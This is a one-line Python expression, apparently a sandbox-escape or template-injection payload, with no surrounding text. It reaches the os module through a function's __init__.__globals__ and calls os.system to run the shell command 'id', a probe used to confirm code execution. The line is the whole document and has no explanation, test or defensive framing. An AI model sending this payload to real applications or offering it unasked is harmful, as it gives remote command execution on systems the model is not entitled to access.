f.__init__.__globals__["os"].system("id")
